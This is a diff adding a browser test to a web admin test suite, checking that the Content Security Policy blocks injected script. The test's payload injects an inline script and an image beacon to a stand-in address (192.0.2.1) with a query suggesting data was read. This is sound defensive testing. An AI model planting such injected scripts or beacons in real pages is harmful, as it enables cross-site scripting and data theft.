@@ -33,6 +33,16 @@ OWN = [
 PAGES = ["", "password_change/", *(path for path in OWN if path not in PARTS)]
 ONE = "#result_list tbody a[href*='/change/'], #content td a[href*='/change/']"
 DEED = "#content a[href*='/do/']"
+_SMUGGLE = """
+() => {
+  const script = document.createElement("script");
+  script.textContent = "window.smuggled = true";
+  document.body.append(script);
+  const image = document.createElement("img");
+  image.src = "http://192.0.2.1/?what=was-read";
+  document.body.append(image);
+}
+"""
 
 
 @pytest.fixture(scope="module")
@@ -90,6 +100,17 @@ def test_a_model_s_pages(console, model):
 def test_a_page(console, path):
     assert console.go(f"/admin/{path}{QUERIES.get(path, '')}") == 200
     assert judge(console, path) == []
+
+
+def test_a_script_that_was_smuggled_in_does_not_run(browser, system, sessions):
+    console = Console(browser.new_context(storage_state=sessions("admin")), system.address)
+    console.go("/admin/")
+    console.page.evaluate(_SMUGGLE)
+    console.page.wait_for_timeout(500)
+    assert console.page.evaluate("() => window.smuggled") is None
+    refused = [each for each in console.complaints if "Content Security Policy" in each]
+    assert len(refused) >= 2
+    console.page.context.close()
 
 
 def test_no_such_page(console):
